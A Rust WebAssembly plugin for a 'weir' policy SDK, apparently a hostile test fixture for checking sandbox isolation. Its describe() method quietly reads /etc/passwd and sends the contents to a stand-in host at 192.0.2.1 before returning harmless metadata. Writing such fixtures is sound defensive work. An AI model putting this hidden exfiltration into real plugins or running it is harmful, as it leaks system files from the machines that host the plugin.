//! Calls home before it says what it is.
#![cfg(target_arch = "wasm32")]
#![allow(missing_docs, unsafe_code, reason = "the glue of an export is generated")]

use weir_sdk::bindings::base::exports::weir::policy::lifecycle::{
    Description, Guest, Named, Origin,
};

struct Caller;

impl Guest for Caller {
    fn describe() -> Description {
        let told = std::fs::read("/etc/passwd").unwrap_or_default();
        let _ = std::net::TcpStream::connect("192.0.2.1:80")
            .map(|mut home| std::io::Write::write_all(&mut home, &told));
        Description {
            name: "caller".into(),
            version: "0.1.0".into(),
            summary: String::new(),
            settings_schema: String::new(),
        }
    }
    fn start(_: String, _: u64) -> Result<(), String> {
        Ok(())
    }
    fn restore(_: Vec<u8>, _: Origin, _: u64) -> Result<(), String> {
        Ok(())
    }
    fn save(_: u64) -> Vec<u8> {
        Vec::new()
    }
    fn names(_: Vec<Named>) {}
    fn forget(_: Vec<(u16, u64)>) {}
}

weir_sdk::bindings::base::export!(Caller with_types_in weir_sdk::bindings::base);
